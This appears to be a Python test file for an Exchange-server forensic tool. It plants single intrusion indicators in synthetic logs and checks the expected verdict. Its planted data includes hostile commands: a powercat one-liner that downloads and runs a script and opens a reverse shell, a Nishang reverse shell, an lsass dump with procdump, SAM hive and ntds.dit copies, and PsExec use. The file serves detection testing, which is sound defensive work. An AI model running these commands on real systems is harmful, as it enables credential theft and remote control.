"""One server, one trace: a quiet week in which a single thing from the public reports is planted, or evidence is lacking.

Nothing here is dressed up: where the trace is all there is, a report that calls the server clear has not seen it.
"""

import uuid
from collections.abc import Callable
from datetime import datetime, timedelta

import msgspec

from postvakt.estate import event_kinds, regf_writer
from postvakt.estate.binxml import GUID, HEX32, STRING, UINT32
from postvakt.estate.event_kinds import named
from postvakt.estate.evtx_writer import Event
from postvakt.estate.regf_writer import Key, Value, regf
from tests.strangers import events, lone_files, logs, pages, web
from tests.strangers.ground import Gathered, HandIn, Server, at
from tests.strangers.rendering import hand_in
from tests.strangers.working import working

SERVER = Server(
    name="TRV-EXB-09", netbios="FENLAND", dns="fenland.corp.example", address="192.0.2.70", seed=70, begins=at("03-01 00:00"),
    ends=at("03-08 00:00"), builds=((at("01-01 00:00"), (15, 1, 1847, 3)),),
)  # fmt: skip
NIGHT = at("03-05 03:00")
ACTOR = "203.0.113.9"
AGENT = "Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101 Firefox/60.0"
SYSTEM32 = "C:\\Windows\\System32\\"
SHELL, WORKER = f"{SYSTEM32}cmd.exe", f"{SYSTEM32}inetsrv\\w3wp.exe"
POWERSHELL = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
NOT_CLEAR = ("inconclusive", "attempted", "compromised")
COMPROMISED = ("compromised",)
UNKNOWN = ("inconclusive",)
CLEAR_SINCE = ("clear-since",)


class Lone(msgspec.Struct, frozen=True, kw_only=True):
    """What is planted (or taken away), the outcomes that are right, and where the public reports say so."""

    plant: Callable[[Gathered], None]
    outcomes: tuple[str, ...]
    says: str
    audited: bool = True
    sysmon: bool = False
    exchange_logs: bool = True
    hives: bool = True

    def handed_in(self) -> HandIn:
        gathered = working(
            SERVER, audited=self.audited, sysmon=self.sysmon, exchange_logs=self.exchange_logs,
            with_pages=self.exchange_logs, with_hives=self.hives and self.exchange_logs,
        )  # fmt: skip
        self.plant(gathered)
        if not self.exchange_logs:
            gathered.proxy.clear()
            gathered.text.clear()
        return hand_in(gathered, self.outcomes[0], "")


def command(line: str, image: str, parent: str = SHELL) -> Callable[[Gathered], None]:
    return lambda gathered: events.process(gathered, NIGHT, image, line, parent)


def scripted(text: str) -> Callable[[Gathered], None]:
    return lambda gathered: events.script(gathered, NIGHT, text)


def posted(*stems: str) -> Callable[[Gathered], None]:
    def plant(gathered: Gathered) -> None:
        for number, stem in enumerate(stems):
            web.direct(
                gathered, NIGHT + timedelta(minutes=number), stem, client=ACTOR, method="POST", agent=AGENT
            )

    return plant


def nothing(_: Gathered) -> None:
    """Only what is lacking counts."""


def mail_read(gathered: Gathered) -> None:
    for number in range(5):
        when = NIGHT + timedelta(seconds=30 * number)
        web.forged(gathered, when, "/ecp/scripts.js", "/EWS/Exchange.asmx?", client=ACTOR, agent=AGENT)


def anchor_without_port(gathered: Gathered) -> None:
    web.proxy(
        gathered, NIGHT, "Owa", UrlStem="/owa/auth/x.js", AuthenticationType="FBA", IsAuthenticated="false", Method="GET",
        AnchorMailbox=f"ServerInfo~{SERVER.fqdn}/EWS/Exchange.asmx?", UserAgent=AGENT, ClientIpAddress=ACTOR,
        RoutingHint="X-AnonResource-Backend-Cookie",
    )  # fmt: skip


def without(*kinds: str) -> Callable[[Gathered], None]:
    """Take four days away from these logs."""

    def plant(gathered: Gathered) -> None:
        for kind in kinds:
            kept = getattr(gathered, kind)
            for log, rows in kept.items():
                kept[log] = [row for row in rows if not at("03-02 00:00") <= row[0] < at("03-06 00:00")]

    return plant


def wrote(image: str, target: str) -> Callable[[Gathered], None]:
    def plant(gathered: Gathered) -> None:
        moment = f"{NIGHT:%Y-%m-%d %H:%M:%S}.000"
        values = ("-", moment, uuid.UUID(int=77), 4000, image, target, moment)
        gathered.events[events.SYSMON].append(
            Event(NIGHT, event_kinds.FILE_CREATED, values, user=events.LOCAL_SYSTEM)
        )

    return plant


LSASS_OPENED = named(
    "Microsoft-Windows-Sysmon", event_kinds.SYSMON_GUID, 10,
    [
        ("RuleName", STRING), ("UtcTime", STRING), ("SourceProcessGUID", GUID), ("SourceProcessId", UINT32),
        ("SourceThreadId", UINT32), ("SourceImage", STRING), ("TargetProcessGUID", GUID), ("TargetProcessId", UINT32),
        ("TargetImage", STRING), ("GrantedAccess", HEX32), ("CallTrace", STRING),
    ],
    version=3, task=10,
)  # fmt: skip
SERVICE_INSTALLED = named(
    "Service Control Manager", event_kinds.SERVICES_GUID, 7045,
    [(name, STRING) for name in ("ServiceName", "ImagePath", "ServiceType", "StartType", "AccountName")],
    keywords=0x8080000000000000, qualifiers=16384,
)  # fmt: skip
DATABASE_CREATED = event_kinds.classic("ESENT", 325, task=1)


def lsass_opened(gathered: Gathered) -> None:
    values = (
        "-", f"{NIGHT:%Y-%m-%d %H:%M:%S}.000", uuid.UUID(int=5), 4000, 4100, f"{SYSTEM32}rundll32.exe", uuid.UUID(int=6), 728,
        f"{SYSTEM32}lsass.exe", 0x1FFFFF, f"C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|{SYSTEM32}comsvcs.dll+1a4b1",
    )  # fmt: skip
    gathered.events[events.SYSMON].append(Event(NIGHT, LSASS_OPENED, values, user=events.LOCAL_SYSTEM))


def service(name: str, path: str) -> Callable[[Gathered], None]:
    values = (name, path, "user mode service", "auto start", "LocalSystem")
    return lambda gathered: gathered.events[events.SYSTEM].append(Event(NIGHT, SERVICE_INSTALLED, values))


def directory_copied(gathered: Gathered) -> None:
    told = (
        ("ntdsutil", "4120,D,0", "", "1", "C:\\ProgramData\\n\\Active Directory\\ntds.dit", "0", "[1] 0.000"),
        None,
    )
    gathered.events[events.APPLICATION].append(Event(NIGHT, DATABASE_CREATED, told))


def account_by_the_machine(gathered: Gathered) -> None:
    machine, local = events.subject(gathered), "S-1-5-21-190001001-290002002-390003003-1009"
    unset = (
        "-",
        "svc_x",
        *("%%1793",) * 7,
        "%%1794",
        "%%1794",
        "513",
        "-",
        "0x0",
        "0x15",
        "%%2080",
        "%%1793",
        "-",
        "%%1797",
    )
    security = gathered.events[events.SECURITY]
    security.append(Event(NIGHT, events.USER_CREATED, ("svc_x", SERVER.name, local, *machine, *unset)))
    member = ("-", local, "Administrators", "Builtin", "S-1-5-32-544", *machine, "-")
    security.append(Event(NIGHT + timedelta(seconds=5), events.MEMBER_ADDED, member))


def key(name: str, *values: Value, keys: tuple[Key, ...] = ()) -> Key:
    return Key(name=name, written=NIGHT, values=values, keys=keys)


def control(*below: Key) -> Callable[[Gathered], None]:
    """A SYSTEM hive with these keys under Control."""
    named_so = key("ComputerName", keys=(key("ComputerName", regf_writer.text("ComputerName", SERVER.name)),))
    current = key("ControlSet001", keys=(key("Control", keys=(named_so, *below)),))
    root = key("ROOT", keys=(key("Select", regf_writer.dword("Current", 1)), current))
    return hive("SYSTEM", root)


def hive(name: str, root: Key) -> Callable[[Gathered], None]:
    path = f"{SERVER.windows}/System32/config/{name}"
    return lambda gathered: gathered.put(path, regf(root, file_name=name), NIGHT)


def panel_cmdlet(name: str, parameters: str) -> Callable[[Gathered], None]:
    return lambda gathered: events.cmdlet(gathered, NIGHT, name, parameters, user="Administrator")


def placed(path: str, content: bytes, when: datetime = NIGHT) -> Callable[[Gathered], None]:
    return lambda gathered: gathered.put(path, content, when)


def product_pages(gathered: Gathered) -> None:
    for number, (method, stem, query) in enumerate(lone_files.IN_USE):
        user = "" if "/auth/" in stem else "mberg"
        web.visit(
            gathered, at("03-03 10:00") + timedelta(seconds=7 * number), stem, client="203.0.113.33", method=method,
            query=query, user=user, proxied=bool(user),
        )  # fmt: skip
    web.direct(
        gathered,
        at("03-03 12:00"),
        "/aspnet_client/system_web/4_0_30319/WebUIValidation.js",
        client="203.0.113.33",
    )


DUMP = b"MDMP\x93\xa7\x00\x00" + bytes(4000)
ASPNET = "C/inetpub/wwwroot/aspnet_client"
WDIGEST = key("SecurityProviders", keys=(key("WDigest", regf_writer.dword("UseLogonCredential", 1)),))
SSP = key("Lsa", regf_writer.texts("Security Packages", "kerberos", "msv1_0", "mimilib"))
EULA = key(
    "ROOT",
    keys=(
        key(
            "Software",
            keys=(key("Sysinternals", keys=(key("ProcDump", regf_writer.dword("EulaAccepted", 1)),)),),
        ),
    ),
)
KEY_ONLY = pages.address_book(SERVER, "http://f/Kx8mQ2", "2f9c4a7e-0000-4000-8000-1234567890ab", NIGHT)
UM = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe"

LONE: dict[str, Lone] = {
    "mail-read-and-iis-logs-alone": Lone(plant=mail_read, outcomes=NOT_CLEAR, says="1.6, 2.3.9, 2.6", exchange_logs=False),
    "no-process-was-logged": Lone(plant=nothing, outcomes=UNKNOWN, says="6 Process", audited=False),
    "exchange-logs-deleted": Lone(plant=without("proxy", "text"), outcomes=UNKNOWN, says="2.3.5, 7.2"),
    "iis-logs-deleted": Lone(plant=without("iis"), outcomes=UNKNOWN, says="2.3.5, 2.3.10"),
    "anchor-without-port": Lone(plant=anchor_without_port, outcomes=COMPROMISED, says="2.2"),
    "powershell-without-command-line": Lone(plant=command("", POWERSHELL, WORKER), outcomes=COMPROMISED, says="4.4, 2.6"),
    "address-book-elsewhere": Lone(
        plant=lambda gathered: logs.book(
            gathered, NIGHT, "ErrorTrace",
            "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\hq7.aspx' needs to be removed",
        ),
        outcomes=COMPROMISED, says="2.2",
    ),
    "key-only-address-book": Lone(plant=placed(f"{ASPNET}/pz0w.aspx", KEY_ONLY), outcomes=COMPROMISED, says="1.7, 2.3.3"),
    "worker-writes-page": Lone(plant=wrote(WORKER, "C:\\inetpub\\wwwroot\\aspnet_client\\qq1.aspx"), outcomes=COMPROMISED, says="2.6", sysmon=True),
    "um-writes-page": Lone(plant=wrote(UM, "C:\\inetpub\\wwwroot\\aspnet_client\\h9.aspx"), outcomes=COMPROMISED, says="2.6", sysmon=True),
    "handler-in-owa-auth": Lone(plant=posted("/owa/auth/lang.ashx"), outcomes=COMPROMISED, says="2.7"),
    "product-names-in-the-other-folder": Lone(
        plant=posted("/owa/auth/TimeoutLogout.aspx", "/ecp/auth/TimeoutLogoff.aspx"), outcomes=COMPROMISED, says="2.7",
    ),
    "export-into-a-web-folder": Lone(
        plant=panel_cmdlet("New-MailboxExportRequest", '-Mailbox "a" -FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\k.aspx"'),
        outcomes=COMPROMISED, says="2.6",
    ),
    "procdump": Lone(plant=command("C:\\windows\\temp\\pd64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass", "C:\\windows\\temp\\pd64.exe"), outcomes=COMPROMISED, says="4.1"),
    "hives-saved": Lone(plant=command("reg  save hklm\\sam C:\\ProgramData\\s.hiv", f"{SYSTEM32}reg.exe"), outcomes=COMPROMISED, says="6"),
    "directory-copied-by-command": Lone(plant=command('ntdsutil "ac i ntds" ifm "create full C:\\ProgramData\\n" q q', f"{SYSTEM32}ntdsutil.exe"), outcomes=COMPROMISED, says="6"),
    "directory-copied-in-the-application-log": Lone(plant=directory_copied, outcomes=NOT_CLEAR, says="6 NTDS.dit"),
    "administrator-removed": Lone(plant=command('net group "Exchange Organization administrators" administrator /del /domain', f"{SYSTEM32}net.exe"), outcomes=COMPROMISED, says="4.2"),
    "lsass-opened": Lone(plant=lsass_opened, outcomes=COMPROMISED, says="6", sysmon=True),
    "dump-by-name": Lone(plant=placed("C/Windows/Temp/lsass_210304.dmp", DUMP), outcomes=COMPROMISED, says="6"),
    "dump-as-picture": Lone(plant=placed(f"{ASPNET}/logo.gif", DUMP), outcomes=NOT_CLEAR, says="6 LSASS dump file"),
    "cabinet-of-hives": Lone(plant=placed(f"{ASPNET}/s.cab", lone_files.CABINET), outcomes=COMPROMISED, says="2.3.14"),
    "wdigest-on": Lone(plant=control(WDIGEST), outcomes=NOT_CLEAR, says="6 WDigest", hives=False),
    "security-package-of-mimikatz": Lone(plant=control(SSP), outcomes=NOT_CLEAR, says="6 SSP", hives=False),
    "procdump-licence-of-system": Lone(plant=hive("DEFAULT", EULA), outcomes=NOT_CLEAR, says="6 Sysinternals EULA", hives=False),
    "account-by-the-machine": Lone(plant=account_by_the_machine, outcomes=NOT_CLEAR, says="6 Accounts"),
    "task-of-the-campaign": Lone(plant=placed("C/Windows/System32/Tasks/VSPerfMon", lone_files.TASK), outcomes=NOT_CLEAR, says="4.2, 6 Tasks"),
    "service-of-dearcry": Lone(plant=service("msupdate", "C:\\Windows\\Temp\\m.exe"), outcomes=COMPROMISED, says="4.4"),
    "module-of-iis": Lone(plant=placed("C/Windows/System32/inetsrv/config/applicationHost.config", lone_files.MODULE), outcomes=NOT_CLEAR, says="4.4 IIS backdoors, 6"),
    "powercat": Lone(plant=scripted("IEX (New-Object System.Net.Webclient).DownloadString('https://203.0.113.5/powercat.ps1'); powercat -c 203.0.113.5 -p 443 -e cmd"), outcomes=NOT_CLEAR, says="4.1"),
    "nishang": Lone(plant=scripted("Invoke-PowerShellTcpOneLine -Reverse -IPAddress 203.0.113.5 -Port 443"), outcomes=NOT_CLEAR, says="4.1"),
    "psexec-to-another": Lone(plant=command("PsExec.exe \\\\192.0.2.5 -s -accepteula cmd.exe /c whoami", "C:\\Windows\\Temp\\PsExec.exe"), outcomes=COMPROMISED, says="6"),
    "error-report-of-the-panel": Lone(plant=placed(lone_files.REPORT_AT, lone_files.REPORT), outcomes=NOT_CLEAR, says="2.3.11"),
    "loot-in-programdata": Lone(plant=placed("C/ProgramData/it.zip", b"PK\x03\x04" + bytes(200)), outcomes=NOT_CLEAR, says="2.2, 4.2"),
    "only-the-products-own-pages": Lone(plant=product_pages, outcomes=CLEAR_SINCE, says="2.7"),
}  # fmt: skip
